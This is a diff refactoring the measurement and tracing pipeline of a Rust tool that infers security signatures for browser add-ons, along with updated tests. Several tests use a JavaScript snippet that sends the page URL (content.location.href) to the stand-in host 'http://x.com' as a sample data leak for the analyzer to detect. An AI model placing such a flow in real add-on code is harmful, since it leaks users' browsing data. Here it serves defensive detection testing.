@@ -44,8 +44,12 @@
 //! # The `Pipeline` builder
 //!
 //! Non-default runs go through [`Pipeline`], which owns the knobs that
-//! used to be loose function parameters and threads an optional
-//! [`sigtrace::Tracer`] through every phase:
+//! used to be loose function parameters. Every run is measured in one
+//! place: the phases report spans, counters and (under
+//! [`Pipeline::profile`]) cost buckets through one [`sigtrace::Trace`]
+//! handle to the pipeline's recorder, which derives [`Report::timings`]
+//! from the phase spans and forwards spans and counters to an optional
+//! caller's [`sigtrace::Tracer`]:
 //!
 //! ```
 //! use addon_sig::Pipeline;
@@ -82,11 +86,11 @@ use jsir::Lowered;
 use jspdg::Pdg;
 use jssig::{FlowLattice, Signature};
 use sigtrace::{
-    Attribution, AttributionSink, Counter, Counters, JobProfile, MetricsRegistry, PhaseTimings,
-    Trace, Tracer,
+    AttributionSink, Counters, JobProfile, MetricsRegistry, PhaseTimings, SpanCollector, Trace,
+    Tracer,
 };
 use std::fmt;
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 /// Errors surfaced by the pipeline.
 ///
@@ -163,7 +167,8 @@ pub struct Report {
     /// The inferred security signature.
     pub signature: Signature,
     /// Per-phase wall times (phase 1 = base analysis, phase 2 = PDG
-    /// construction, phase 3 = signature inference).
+    /// construction, phase 3 = signature inference): the durations of
+    /// the run's top-level `phase1` / `phase2` / `phase3` spans.
     pub timings: PhaseTimings,
     /// Pipeline work counters, collected whether or not a tracer was
     /// attached. Deterministic for a fixed source and configuration.
@@ -186,7 +191,8 @@ pub struct Report {
 /// Each setter consumes and returns the builder. [`Pipeline::run`]
 /// executes parse → lower → phase 1 → phase 2 → phase 3, emitting one
 /// span per stage (plus the phases' own sub-spans) to the attached
-/// tracer and collecting the pipeline counters either way.
+/// tracer and collecting the pipeline counters and phase times either
+/// way.
 #[must_use = "a Pipeline does nothing until .run(source)"]
 pub struct Pipeline<'t> {
     config: AnalysisConfig,
@@ -264,19 +270,13 @@ impl<'t> Pipeline<'t> {
             trace,
             profile,
         } = self;
-        // The user's tracer (if any) sits behind a tap that also keeps
-        // the counters for the Report. The tap is only touched at phase
-        // granularity — the fixpoint loops accumulate their counts in
-        // plain integers — so running it unconditionally costs a handful
-        // of calls per addon, not per step.
-        let mut tap = CounterTap {
-            user: match trace {
-                Trace::Off => None,
-                Trace::On(t) => Some(t),
-            },
-            counters: Counters::new(),
+        let mut rec = Recorder {
+            spans: SpanCollector::new(),
+            costs: profile.then(AttributionSink::new),
+            user: trace,
         };
-        let mut trace = Trace::On(&mut tap);
+
+        let mut trace = Trace::On(&mut rec);
 
         trace.span_start("parse");
         let parsed = jsparser::parse(source);
@@ -288,31 +288,16 @@ impl<'t> Pipeline<'t> {
         trace.span_end("lower");
 
         trace.span_start("phase1");
-        let start = Instant::now();
-        let mut sink = AttributionSink::new();
-        let mut attr = if profile {
-            Attribution::on(&mut sink)
-        } else {
-            Attribution::Off
-        };
-        let analysis = jsanalysis::analyze_attributed(&lowered, &config, &mut trace, &mut attr);
-        drop(attr);
-        let p1 = start.elapsed();
+        let analysis = jsanalysis::analyze_traced(&lowered, &config, &mut trace);
         trace.span_end("phase1");
-        // Rolls what phase 1 attributed into the deterministic profile;
-        // a budget abort carries only the phases that actually ran.
-        let us = |d: Duration| d.as_micros().min(u128::from(u64::MAX)) as u64;
-        let mut job_profile = profile.then(|| {
-            let mut p = sink.into_profile(analysis.steps as u64);
-            p.phases = vec![("phase1".to_owned(), us(p1))];
-            p
-        });
+
+        // A budget abort carries only the phases that actually ran.
         if let Some(b) = &analysis.budget_exhausted {
             return Err(Error::Budget {
                 kind: b.kind,
                 steps: b.steps,
                 elapsed: b.elapsed,
-                profile: job_profile.map(Box::new),
+                profile: rec.profile(analysis.steps, &["phase1"]).map(Box::new),
             });
         }
         if analysis.hit_step_limit {
@@ -320,7 +305,7 @@ impl<'t> Pipeline<'t> {
                 kind: BudgetKind::SafetyValve,
                 steps: analysis.steps,
                 elapsed: Duration::ZERO,
-                profile: job_profile.map(Box::new),
+                profile: rec.profile(analysis.steps, &["phase1"]).map(Box::new),
             });
         }
 
@@ -335,76 +320,105 @@ impl<'t> Pipeline<'t> {
         // no witnesses or PDG paths are possible — and caches hinge on
         // the knob being part of the canonical config.
         let triaged = config.triage && jssig::flows_impossible(&analysis);
-        let (pdg, p2) = if triaged {
-            (Pdg::default(), Duration::ZERO)
+        let mut trace = Trace::On(&mut rec);
+        let pdg = if triaged {
+            Pdg::default()
         } else {
             trace.span_start("phase2");
-            let start = Instant::now();
             let pdg = Pdg::build_traced(&lowered, &analysis, &mut trace);
-            let p2 = start.elapsed();
             trace.span_end("phase2");
-            (pdg, p2)
+            pdg
         };
 
         trace.span_start("phase3");
-        let start = Instant::now();
         let signature =
             jssig::infer_signature_traced(&lowered, &analysis, &pdg, &lattice, &mut trace);
-        let p3 = start.elapsed();
         trace.span_end("phase3");
 
-        drop(trace);
-        if let Some(p) = &mut job_profile {
-            p.phases.push(("phase2".to_owned(), us(p2)));
-            p.phases.push(("phase3".to_owned(), us(p3)));
-        }
         Ok(Report {
+            timings: PhaseTimings::new(
+                rec.phase("phase1"),
+                rec.phase("phase2"),
+                rec.phase("phase3"),
+            ),
+            counters: *rec.spans.counters(),
+            profile: rec.profile(analysis.steps, &["phase1", "phase2", "phase3"]),
             lowered,
             analysis,
             pdg,
             signature,
-            timings: PhaseTimings::new(p1, p2, p3),
-            counters: tap.counters,
             triaged,
-            profile: job_profile,
         })
     }
 }
 
-/// Forwards trace events to an optional user tracer while keeping its
-/// own copy of the counters (so `Report::counters` is populated even
-/// without a tracer attached).
-struct CounterTap<'a> {
-    user: Option<&'a mut dyn Tracer>,
-    counters: Counters,
+/// The one place a run is measured. Every phase reports through it: it
+/// records the run's spans (the phase times are the top-level `phase1`
+/// / `phase2` / `phase3` spans), keeps the counters and — under
+/// [`Pipeline::profile`] — the attribution buckets for the [`Report`],
+/// and forwards spans and counters to the caller's tracer. It is only
+/// touched at phase granularity, so it costs a handful of calls per
+/// addon, not per step.
+struct Recorder<'a> {
+    spans: SpanCollector,
+    costs: Option<AttributionSink>,
+    user: Trace<'a>,
 }
 
-impl Tracer for CounterTap<'_> {
+impl Recorder<'_> {
+    /// Wall time of the top-level span `name`; zero for a phase that
+    /// never ran (phase 2 under triage).
+    fn phase(&self, name: &str) -> Duration {
+        self.spans
+            .spans()
+            .iter()
+            .find(|s| s.depth == 0 && s.name == name)
+            .map_or(Duration::ZERO, |s| s.elapsed)
+    }
+
+    /// Rolls the attribution buckets into the deterministic profile,
+    /// with the wall times of `phases`; `None` unless profiling.
+    fn profile(&mut self, total_steps: usize, phases: &[&str]) -> Option<JobProfile> {
+        let mut profile = self.costs.take()?.into_profile(total_steps as u64);
+        profile.phases = phases
+            .iter()
+            .map(|&name| ((*name).to_owned(), micros(self.phase(name))))
+            .collect();
+        Some(profile)
+    }
+}
+
+impl Tracer for Recorder<'_> {
+    // The caller's hooks run outside the recorder's own clock reads, so
+    // the phase times leave out the cost of the tracer the caller asked for.
     fn span_start(&mut self, name: &str) {
-        if let Some(user) = &mut self.user {
-            user.span_start(name);
-        }
+        self.user.span_start(name);
+        self.spans.span_start(name);
     }
 
     fn span_end(&mut self, name: &str) {
-        if let Some(user) = &mut self.user {
-            user.span_end(name);
-        }
-    }
-
-    fn add(&mut self, counter: Counter, delta: u64) {
-        self.counters.add(counter, delta);
-        if let Some(user) = &mut self.user {
-            user.add(counter, delta);
-        }
+        self.spans.span_end(name);
+        self.user.span_end(name);
     }
 
     fn add_counters(&mut self, counters: &Counters) {
-        self.counters.merge(counters);
-        if let Some(user) = &mut self.user {
-            user.add_counters(counters);
+        self.spans.add_counters(counters);
+        self.user.add_counters(counters);
+    }
+
+    fn attributes_cost(&self) -> bool {
+        self.costs.is_some()
+    }
+
+    fn record_cost(&mut self, func: &str, ctx_class: u8, phase: &str, steps: u64, time_us: u64) {
+        if let Some(costs) = &mut self.costs {
+            costs.record(func, ctx_class, phase, steps, time_us);
         }
     }
+}
+
+fn micros(d: Duration) -> u64 {
+    d.as_micros().min(u128::from(u64::MAX)) as u64
 }
 
 /// Runs the full pipeline with default configuration
@@ -455,21 +469,12 @@ pub fn profile_addon(source: &str, config: &AnalysisConfig) -> Result<JobProfile
 /// safety valve and parse failures map to `Error`. The signature JSON is
 /// exactly what `vet --json` prints, so service responses reproduce the
 /// CLI's bytes.
+///
+/// `trace` reaches every pipeline phase: when the daemon's event log
+/// runs at debug level it passes a tracer here, and every phase span
+/// lands in the log tagged with the owning job's request ID. This is
+/// the engine `vet serve` installs via [`sigserve::ServerBuilder::analyze`].
 pub fn service_engine(
-    source: &str,
-    config: &AnalysisConfig,
-    metrics: &MetricsRegistry,
-) -> sigserve::VetOutcome {
-    service_engine_traced(source, config, metrics, Trace::Off)
-}
-
-/// [`service_engine`] plus a [`sigtrace::Trace`]: when the daemon's
-/// event log runs at debug level it passes a tracer here, and every
-/// pipeline phase span lands in the log tagged with the owning job's
-/// request ID. `Trace::Off` makes this exactly [`service_engine`].
-/// This is the engine `vet serve` installs via
-/// [`sigserve::ServerBuilder::analyze_traced`].
-pub fn service_engine_traced(
     source: &str,
     config: &AnalysisConfig,
     metrics: &MetricsRegistry,
@@ -483,20 +488,12 @@ pub fn service_engine_traced(
         Trace::On(tracer) => pipeline.tracer(tracer).run(source),
         Trace::Off => pipeline.run(source),
     };
-    finish_service(result, metrics)
-}
-
-/// Maps a pipeline result onto a [`sigserve::VetOutcome`] and folds its
-/// counters and phase latencies into the daemon's metrics registry;
-/// a job whose phase 2 triage skipped counts in `pipeline_triaged`.
-fn finish_service(result: Result<Report, Error>, metrics: &MetricsRegistry) -> sigserve::VetOutcome {
     match result {
         Ok(report) => {
             metrics.merge_counters(&report.counters);
-            let us = |d: Duration| d.as_micros().min(u128::from(u64::MAX)) as u64;
-            metrics.record("pipeline_p1_us", us(report.timings.p1));
-            metrics.record("pipeline_p2_us", us(report.timings.p2));
-            metrics.record("pipeline_p3_us", us(report.timings.p3));
+            metrics.record("pipeline_p1_us", micros(report.timings.p1));
+            metrics.record("pipeline_p2_us", micros(report.timings.p2));
+            metrics.record("pipeline_p3_us", micros(report.timings.p3));
             if report.triaged {
                 metrics.add("pipeline_triaged", 1);
             }
@@ -525,7 +522,7 @@ fn finish_service(result: Result<Report, Error>, metrics: &MetricsRegistry) -> s
 #[cfg(test)]
 mod tests {
     use super::*;
-    use sigtrace::SpanCollector;
+    use sigtrace::Counter;
 
     #[test]
     fn pipeline_runs() {
@@ -602,10 +599,55 @@ mod tests {
     }
 
     #[test]
+    fn profiling_and_tracing_together_match_each_alone() {
+        // What the daemon does at debug level: cost attribution plus a
+        // caller's tracer on one run, for a triaged and an untriaged job.
+        let config = AnalysisConfig::default().with_triage(true);
+        let pipeline = || Pipeline::new().config(config.clone());
+        let flowing =
+            "var u = content.location.href; var r = XHRWrapper(\"http://x.com\"); r.send(u);";
+        for (source, triaged) in [("var x = 1;", true), (flowing, false)] {
+            let (mut both_spans, mut traced_spans) = (SpanCollector::new(), SpanCollector::new());
+            let both = pipeline()
+                .profile(true)
+                .tracer(&mut both_spans)
+                .run(source)
+                .unwrap();
+            let profiled = pipeline().profile(true).run(source).unwrap();
+            let traced = pipeline().tracer(&mut traced_spans).run(source).unwrap();
+            assert_eq!(both.triaged, triaged);
+
+            // The profile matches profiling alone, and its phase times
+            // are the Report's timings (phase 2 reads 0 when triaged).
+            let (bp, pp) = (both.profile.unwrap(), profiled.profile.unwrap());
+            assert_eq!(bp.render_table(10), pp.render_table(10));
+            let names = |p: &JobProfile| p.phases.iter().map(|p| p.0.clone()).collect::<Vec<_>>();
+            assert_eq!(names(&bp), ["phase1", "phase2", "phase3"]);
+            assert_eq!(names(&bp), names(&pp));
+            let t = both.timings;
+            let us: Vec<u64> = bp.phases.iter().map(|p| p.1).collect();
+            assert_eq!(us, [micros(t.p1), micros(t.p2), micros(t.p3)]);
+            assert_eq!(t.p2 == Duration::ZERO, triaged);
+
+            // The spans and counters match tracing alone.
+            let shape = |c: &SpanCollector| {
+                c.spans()
+                    .iter()
+                    .map(|s| (s.name.clone(), s.depth))
+                    .collect::<Vec<_>>()
+            };
+            assert_eq!(shape(&both_spans), shape(&traced_spans));
+            assert_eq!(both_spans.counters(), traced_spans.counters());
+            assert_eq!(both.counters, traced.counters);
+            assert!(traced.profile.is_none());
+        }
+    }
+
+    #[test]
     fn service_engine_maps_outcomes_and_feeds_metrics() {
         let default = AnalysisConfig::default();
         let metrics = MetricsRegistry::new();
-        match service_engine("var x = 1;", &default, &metrics) {
+        match service_engine("var x = 1;", &default, &metrics, Trace::Off) {
             sigserve::VetOutcome::Report { signature_json, .. } => {
                 assert!(signature_json.starts_with('{'));
             }
@@ -620,14 +662,14 @@ mod tests {
         );
         assert!(snap.histograms.iter().any(|h| h.name == "pipeline_p1_us"));
 
-        match service_engine("var = ;", &default, &metrics) {
+        match service_engine("var = ;", &default, &metrics, Trace::Off) {
             sigserve::VetOutcome::Error { message, .. } => {
                 assert!(message.contains("parse error"));
             }
             other => panic!("expected Error, got {other:?}"),
         }
         let tight = AnalysisConfig::default().with_step_budget(1);
-        match service_engine("var x = 1; var y = x;", &tight, &metrics) {
+        match service_engine("var x = 1; var y = x;", &tight, &metrics, Trace::Off) {
             sigserve::VetOutcome::Timeout { steps, .. } => assert!(steps > 1),
             other => panic!("expected Timeout, got {other:?}"),
         }
@@ -638,13 +680,14 @@ mod tests {
         // addon with a reachable source and sink runs phase 2 and is not.
         let triage = AnalysisConfig::default().with_triage(true);
         let benign = MetricsRegistry::new();
-        service_engine("var x = 1;", &triage, &benign);
+        service_engine("var x = 1;", &triage, &benign, Trace::Off);
         assert_eq!(triaged_count(&benign), Some(1));
         let flowing = MetricsRegistry::new();
         service_engine(
             "var u = content.location.href; var r = XHRWrapper(\"http://x.com\"); r.send(u);",
             &triage,
             &flowing,
+            Trace::Off,
         );
         assert_eq!(triaged_count(&flowing), None);
     }
